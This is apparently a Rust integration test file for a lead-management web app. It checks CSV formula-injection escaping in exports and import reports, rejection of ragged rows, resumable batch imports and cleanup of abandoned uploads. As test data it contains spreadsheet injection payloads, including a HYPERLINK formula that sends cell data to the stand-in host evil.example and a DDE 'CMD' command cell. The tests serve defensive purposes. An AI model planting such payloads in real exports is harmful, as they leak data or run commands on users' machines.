//! Security issue #12, the CSV items: formulas in exports and reports, ragged import files, and
//! uploads left behind on disk.

use agency_engine::auth::roles::Role;
use agency_engine::leads::{import, model};
use reqwest::StatusCode;

use crate::harness::{eventually, input_value, spawn_app, spawn_with, TestApp};

/// The cells of a CSV text, row by row.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_string).collect())
        .collect()
}

/// Fetches the rejected-rows report of an import.
async fn report(app: &TestApp, import_id: i64) -> String {
    let r = app.get(&format!("/leads/imports/{import_id}/report")).await;
    assert_eq!(r.status(), StatusCode::OK);
    r.text().await.unwrap()
}

/// A lead file: a header and `rows` data rows, row `i` given by `row(i)`.
fn lead_file(rows: usize, row: impl Fn(usize) -> String) -> Vec<u8> {
    let mut csv = String::from("first_name,last_name,email\n");
    for i in 0..rows {
        csv.push_str(&row(i));
        csv.push('\n');
    }
    csv.into_bytes()
}

/// Uploads `bytes` and starts importing them as first name, last name and e-mail.
async fn import_file(app: &TestApp, bytes: Vec<u8>) -> i64 {
    let html = app.upload_lead_csv("leads.csv", bytes).await.text().await.unwrap();
    app.start_lead_import(
        &input_value(&html, "upload"),
        "leads.csv",
        &["first_name", "last_name", "email"],
    )
    .await
}

// ---- 4. formula injection -------------------------------------------------------------------

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_sent_as_a_quote_form_name_is_exported_as_text() {
    let app = spawn_app().await;
    let html = app.page("/quote").await.1;
    let started = input_value(&html, "started");
    let r = app
        .post_form(
            "/quote",
            &[
                ("first_name", HYPERLINK),
                ("last_name", "@SUM(1+1)"),
                ("email", "eve@example.com"),
                ("zip", "33101"),
                ("started", &started),
            ],
        )
        .await;
    assert_eq!(r.headers()["location"], "/quote/thanks");

    app.login_as(Role::Owner).await;
    let r = app.get("/leads/export").await;
    assert_eq!(r.status(), StatusCode::OK);
    let rows = cells(&r.text().await.unwrap());
    assert_eq!(rows.len(), 2, "the header and the lead: {rows:?}");
    let (first, last) = (&rows[1][5], &rows[1][6]);
    assert_eq!(first, &format!("'{HYPERLINK}"));
    assert_eq!(last, "'@SUM(1+1)");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_of_rejected_import_rows_are_reported_as_text() {
    let app = spawn_app().await;
    app.login_as(Role::Owner).await;
    let csv = "first,last,email\n\
               Ana,Diaz,ana@example.com\n\
               =CMD|'/C calc'!A0,Li,not-an-email\n\
               Bo,+1+1,-2@\n";
    let id = import_file(&app, csv.into()).await;
    let done = app.finished_import(id, 30).await;
    assert_eq!((done.created_count, done.rejected_count), (1, 2));
    let rows = cells(&report(&app, id).await);
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(rows[1][2..], ["'=CMD|'/C calc'!A0", "Li", "not-an-email"]);
    assert_eq!(rows[2][2..], ["Bo", "'+1+1", "'-2@"]);
}

// ---- 6. ragged rows -------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_1202_row_file_with_one_row_of_too_many_fields_imports_every_other_row() {
    let app = spawn_app().await;
    app.login_as(Role::Owner).await;
    let file = lead_file(1_202, |i| match i {
        1_100 => format!("Extra{i},Field,extra{i}@example.com,surplus"),
        _ => format!("Person{i},Ragged,p{i}@ragged.example.com"),
    });
    let id = import_file(&app, file).await;
    let done = app.finished_import(id, 60).await;
    assert_eq!(
        (
            done.processed_rows,
            done.created_count,
            done.attached_count,
            done.rejected_count
        ),
        (1_202, 1_201, 0, 1)
    );
    assert_eq!(app.count("leads"), 1_201);
    let rows = cells(&report(&app, id).await);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][0], "1102", "the row's line in the file");
    assert!(
        rows[1][1].contains("This row has 4 cells but the header has 3"),
        "{rows:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn short_long_and_unclosed_quote_rows_are_rejected_one_by_one() {
    let app = spawn_app().await;
    app.login_as(Role::Owner).await;
    let file = "first_name,last_name,email\n\
                Ana,Diaz,ana@example.com\n\
                Bo,bo@example.com\n\
                Cy,Xu,cy@example.com,extra\n\
                Di,\"Fox,di@example.com\n\
                Ed,Gray,ed@example.com\n\
                Flo,Hu,flo@example.com\n";
    let id = import_file(&app, file.into()).await;
    let done = app.finished_import(id, 30).await;
    assert_eq!(
        (done.processed_rows, done.created_count, done.rejected_count),
        (6, 3, 3)
    );
    let rows = cells(&report(&app, id).await);
    let lines: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(lines, ["3", "4", "5"], "{rows:?}");
    assert!(rows[1][1].contains("has 2 cells but the header has 3"), "{rows:?}");
    assert!(rows[2][1].contains("has 4 cells but the header has 3"), "{rows:?}");
    assert!(rows[3][1].contains("quote (\") that is never closed"), "{rows:?}");
    assert_eq!(rows[3][2], "Di,\"Fox,di@example.com", "the line as it is in the file");
    assert_eq!(
        app.count("contacts WHERE first_name IN ('Ed', 'Flo')"),
        2,
        "the rows after the quote are imported"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_import_stopped_after_a_batch_resumes_and_counts_each_row_once() {
    let app = spawn_with(|s| s.run_worker = false).await;
    app.login_as(Role::Owner).await;
    // 1,203 rows: every 100th has a bad e-mail address (13), a batch is 500 rows.
    let file = lead_file(1_203, |i| match i % 100 {
        0 => format!("Bad{i},Mail,not-an-email-{i}"),
        _ => format!("Person{i},Resumed,p{i}@resumed.example.com"),
    });
    let id = import_file(&app, file).await;
    let (db, settings) = (app.db.clone(), app.settings.clone());
    let stopped = tokio::task::spawn_blocking(move || {
        import::run_batches(&db, &settings, &agency_engine::caches::Caches::default(), id, 1)
    })
    .await
    .unwrap();
    assert_eq!(stopped, Ok(false), "one batch, not the whole file");
    let after_one = app
        .db
        .read_blocking(move |c| Ok(model::imports::find_import(c, id)?))
        .unwrap();
    assert_eq!(
        (
            after_one.processed_rows,
            after_one.created_count,
            after_one.rejected_count
        ),
        (500, 495, 5)
    );
    assert_eq!(app.count("leads"), 495);
    // A run that stopped between writing the report and committing its batch leaves rows behind.
    let report_file = app.settings.data_dir.join(format!("imports/rejected-{id}.csv"));
    let mut text = std::fs::read_to_string(&report_file).unwrap();
    text.push_str("502,email: Enter a valid e-mail address.,Bad500,Mail,not-an-email-500\n");
    std::fs::write(&report_file, text).unwrap();

    let (db, settings) = (app.db.clone(), app.settings.clone());
    tokio::task::spawn_blocking(move || import::run(&db, &settings, &agency_engine::caches::Caches::default(), id))
        .await
        .unwrap()
        .unwrap();
    let done = app
        .db
        .read_blocking(move |c| Ok(model::imports::find_import(c, id)?))
        .unwrap();
    assert_eq!(done.status, "done");
    assert_eq!(
        (
            done.processed_rows,
            done.created_count,
            done.attached_count,
            done.rejected_count
        ),
        (1_203, 1_190, 0, 13)
    );
    assert_eq!(app.count("leads"), 1_190);
    let rows = cells(&report(&app, id).await);
    let lines: Vec<String> = rows[1..].iter().map(|r| r[0].clone()).collect();
    let expected: Vec<String> = (0..1_203).step_by(100).map(|i| (i + 2).to_string()).collect();
    assert_eq!(lines, expected, "each rejected row once, in file order");
}

// ---- 8. uploads left behind -----------------------------------------------------------------

/// The names of the files in a folder of the data directory.
fn files_in(app: &TestApp, folder: &str) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(app.settings.data_dir.join(folder))
        .map(|d| {
            d.filter_map(Result::ok)
                .map(|e| e.file_name().into_string().unwrap())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// Makes a file look last written `hours` ago.
fn age(path: &std::path::Path, hours: u64) {
    let when = std::time::SystemTime::now() - std::time::Duration::from_secs(hours * 3600);
    std::fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(when)
        .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_import_upload_cut_off_mid_stream_leaves_no_file() {
    use reqwest::cookie::CookieStore;
    use tokio::io::AsyncWriteExt;

    let app = spawn_app().await;
    let jar = std::sync::Arc::new(reqwest::cookie::Jar::default());
    let mut browser = app.new_client();
    browser.client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .cookie_provider(jar.clone())
        .build()
        .unwrap();
    browser.login_as(Role::Owner).await;
    let token = browser.csrf().await;
    let cookie = jar.cookies(&app.address.parse().unwrap()).unwrap();

    // An 18 MB upload of which 1 MB arrives before the connection drops.
    let boundary = "----cut-off-upload";
    // The token first, as the page's form sends it.
    let mut head = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{token}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n\
         Content-Type: text/csv\r\n\r\nfirst_name,last_name,email\n"
    )
    .into_bytes();
    while head.len() < 1024 * 1024 {
        head.extend_from_slice(b"Cut,Off,cut.off@example.com\n");
    }
    let request = format!(
        "POST /leads/imports HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\n\
         Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {length}\r\n\r\n",
        host = app.address.trim_start_matches("http://"),
        cookie = cookie.to_str().unwrap(),
        length = 18 * 1024 * 1024,
    );
    let mut socket = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    socket.write_all(request.as_bytes()).await.unwrap();
    socket.write_all(&head).await.unwrap();
    socket.flush().await.unwrap();
    let partial = eventually(10, || {
        let names = files_in(&app, "imports");
        let name = names.into_iter().find(|n| n.starts_with("leads-"))?;
        let path = app.settings.data_dir.join("imports").join(&name);
        (std::fs::metadata(&path).ok()?.len() > 0).then_some(name)
    })
    .await;
    assert!(partial.is_some(), "the upload is being written");
    drop(socket);

    let gone = eventually(10, || files_in(&app, "imports").is_empty().then_some(())).await;
    assert!(gone.is_some(), "left behind: {:?}", files_in(&app, "imports"));
}

/// Uploads a lead file and leaves it at the mapping step; returns the upload's id.
async fn upload_only(app: &TestApp) -> String {
    let file = lead_file(2, |i| format!("Left{i},Behind,left{i}@example.com"));
    let html = app.upload_lead_csv("leads.csv", file).await.text().await.unwrap();
    input_value(&html, "upload")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daily_job_removes_abandoned_uploads_and_keeps_those_an_import_needs() {
    let app = spawn_app().await;
    let owner = app.login_as(Role::Owner).await;
    let (abandoned, fresh) = (upload_only(&app).await, upload_only(&app).await);
    let dir = app.settings.data_dir.join("imports");
    // An import waiting for the worker still needs its file, however old.
    let needed = dir.join("leads-0123456789abcdef0123456789abcdef.csv");
    std::fs::write(&needed, lead_file(1, |_| "Still,Needed,needed@example.com".into())).unwrap();
    let path = needed.display().to_string();
    app.db
        .write_blocking(move |c| {
            Ok(model::imports::insert_import(
                c,
                owner.id,
                "needed.csv",
                &path,
                "{}",
                10,
            )?)
        })
        .unwrap();
    std::fs::write(dir.join("rejected-99.csv"), "line,errors\n").unwrap();
    let course_dir = app.settings.data_dir.join("courses/videos");
    std::fs::create_dir_all(&course_dir).unwrap();
    std::fs::write(course_dir.join(".upload-cut-off"), b"half a video").unwrap();
    for path in [
        dir.join(format!("leads-{abandoned}.csv")),
        needed.clone(),
        dir.join("rejected-99.csv"),
        course_dir.join(".upload-cut-off"),
    ] {
        age(&path, 48);
    }

    // An upload that old is expired for mapping too.
    let columns = [("upload", abandoned.as_str()), ("file_name", "leads.csv")];
    let r = app.post_form("/leads/imports/mapping", &columns).await;
    assert_eq!(r.headers()["location"], "/leads/imports", "sent back to upload again");

    app.queue_daily_run();
    let swept = eventually(20, || {
        (!files_in(&app, "imports").contains(&format!("leads-{abandoned}.csv"))).then_some(())
    })
    .await;
    assert!(swept.is_some(), "the abandoned upload is removed");
    assert_eq!(
        files_in(&app, "imports"),
        vec![
            "leads-0123456789abcdef0123456789abcdef.csv".to_string(),
            format!("leads-{fresh}.csv"),
            "rejected-99.csv".to_string(),
        ]
    );
    assert!(files_in(&app, "courses/videos").is_empty());
}
